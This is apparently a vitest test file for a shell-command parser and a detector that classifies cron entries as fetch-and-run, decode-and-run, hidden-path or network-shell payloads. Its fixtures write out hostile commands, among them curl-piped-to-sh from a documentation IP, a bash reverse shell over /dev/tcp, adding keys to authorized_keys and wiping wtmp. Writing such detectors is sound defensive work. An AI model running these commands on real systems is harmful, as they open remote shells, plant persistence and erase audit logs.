import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { payloadOf } from './payload.ts'
import { fetchOf } from './remote.ts'
import { parseScript } from './shell.ts'

/** One line per command: what feeds it, its words, where its output goes. */
function shown(script: string): string[] {
  return parseScript(script).map(({ isFed, assignments, words, outputs }) =>
    [
      ...(isFed ? ['|'] : []),
      ...assignments,
      ...words,
      ...outputs.map((output) => `${output.isAppended ? '>>' : '>'}${output.path}`),
    ].join(' '),
  )
}

test.each<[string, string[]]>([
  ['curl -s http://a/x | sh', ['curl -s http://a/x', '| sh']],
  ['cd /tmp && wget x; chmod +x x || true', ['cd /tmp', 'wget x', 'chmod +x x', 'true']],
  [`echo "a b" 'c;d' e\\ f > /etc/x 2>&1 &`, ['echo a b c;d e f >/etc/x']],
  ['echo k >> ~/.ssh/authorized_keys', ['echo k >>~/.ssh/authorized_keys']],
  ['nohup sudo -u root nice -n 19 timeout 5 /tmp/x -o y &', ['/tmp/x -o y']],
  ['A=1 B=2 env C=3 prog d', ['A=1 B=2 C=3 prog d']],
  ['sh -c "$(curl -fsSL https://a/i)"', ['sh -c ', 'curl -fsSL https://a/i', '']],
  ['bash <(wget -O- a/b)', ['bash', 'wget -O- a/b']],
  ['if true; then rm -f x; fi', ['true', 'rm -f x', 'fi']],
  ['> /var/log/wtmp', ['>/var/log/wtmp']],
  ['a |& b', ['a', '| b']],
  ['a &> /var/log/x.log', ['a >/var/log/x.log']],
  ['', []],
])('script %s', (script, expected) => {
  expect(shown(script).filter((line) => line !== '')).toEqual(expected.filter((line) => line !== ''))
})

test.each<[string, string | null, string[]]>([
  ['wget http://203.0.113.50/m', 'http://203.0.113.50/m', ['m']],
  ['wget -q -O /dev/shm/m http://203.0.113.50/a', 'http://203.0.113.50/a', ['/dev/shm/m']],
  ['wget -qO- http://203.0.113.50/a', 'http://203.0.113.50/a', []],
  ['wget -P /tmp http://203.0.113.50/a', 'http://203.0.113.50/a', ['/tmp/a']],
  ['wget --output-document=/tmp/a 203.0.113.50/b', '203.0.113.50/b', ['/tmp/a']],
  ['curl -s http://203.0.113.50/a', 'http://203.0.113.50/a', []],
  ['curl -fsSLo /tmp/x https://example.org/a', 'https://example.org/a', ['/tmp/x']],
  ['curl -O https://example.org/a/b.tgz?x=1', 'https://example.org/a/b.tgz?x=1', ['b.tgz']],
  ['curl https://example.org/a > /tmp/y', 'https://example.org/a', ['/tmp/y']],
  ['curl -o /dev/null http://203.0.113.50', 'http://203.0.113.50', []],
  ['cur http://203.0.113.50/a', 'http://203.0.113.50/a', []],
  ['curl -s example.org/x.sh | sh', 'example.org/x.sh', []],
  ['curl Example.org/x.sh', 'Example.org/x.sh', []],
  ['curl -fsSLO example.org/x.sh', 'example.org/x.sh', ['x.sh']],
  ['curl --silent --location example.org/x.sh', 'example.org/x.sh', []],
  ['curl -o dir.name/file example.org/x.sh', 'example.org/x.sh', ['dir.name/file']],
  ['curl -A some.agent/1.0 -T dir.name/file -H a.b/c --referer d.e/f -fsSLd g.h/i', null, []],
  ['curl -o dir.name/file', null, []],
  ['wget -q example.org:8080/a', 'example.org:8080/a', ['a']],
  ['wget -c --no-check-certificate example.org/a', 'example.org/a', ['a']],
  ['wget -qb example.org/a -P /tmp', 'example.org/a', ['/tmp/a']],
  ['wget -U some.agent/1.0 -O dir.name/file -i list.name/urls', null, []],
  ['curl example.org', null, []],
  ['curl ./dir.name/file', null, []],
  ['wget --version', null, []],
  ['ls http://203.0.113.50/a', null, []],
])('fetch %s', (script, url, outputs) => {
  const [command] = parseScript(script)
  const fetch = command === undefined ? null : fetchOf(command)
  expect(fetch?.url ?? null).toBe(url)
  expect(fetch?.outputs ?? []).toEqual(outputs)
})

test.each<[string, string, boolean, boolean]>([
  ['curl Example.org/x.sh', 'example.org', false, true],
  ['wget -q example.org:8080/a', 'example.org', false, true],
  ['curl 203.0.113.50/a', '203.0.113.50', true, true],
  ['curl https://example.org/a', 'example.org', false, false],
])('host of %s', (script, host, isAddress, isPlain) => {
  const [command] = parseScript(script)
  expect(command === undefined ? null : fetchOf(command)).toMatchObject({ host, isAddress, isPlain })
})

test.each<[string, string | null]>([
  ['*/5 * * * * curl -fsSL http://203.0.113.50/x | sh', 'fetch-and-run'],
  ['* * * * * root wget -q -O - https://example.org/x | bash', 'fetch-and-run'],
  ['@reboot /dev/shm/.x/up', 'hiding-place'],
  ['* * * * * /root/.cfg/run', 'hiding-place'],
  ['* * * * * echo aGk= | base64 -d | bash', 'decode-and-run'],
  ['* * * * * bash -i >& /dev/tcp/203.0.113.50/443 0>&1', 'shell-over-network'],
  ['0 3 * * * root /usr/local/bin/backup.sh > /var/log/backup.log', null],
  ['* * * * * curl -fsS https://status.example.org/ping > /dev/null', null],
  ['* * * * * curl -s http://10.0.0.5/run.sh | sh', null],
  ['* * * * * /home/deploy/.local/bin/job', null],
])('payload %s', (text, reason) => {
  expect(payloadOf(text)?.reason ?? null).toBe(reason)
})

test('any script is split without failing, and nothing is made up', () => {
  const piece = fc.constantFrom(
    'sh ',
    '-c ',
    '|',
    '||',
    '&',
    '&&',
    ';',
    '"',
    "'",
    '`',
    '$(',
    ')',
    '>',
    '>>',
    '2>&1',
    '\\',
    '\n',
    'A=1 ',
    'sudo ',
    'é',
    '\0',
  )
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 8 })), { maxLength: 60 }), (pieces) => {
      const script = pieces.join('')
      for (const command of parseScript(script)) {
        for (const word of command.words) expect(word.length).toBeLessThanOrEqual(script.length)
      }
      payloadOf(script)
    }),
    { seed: 7, numRuns: 500 },
  )
})
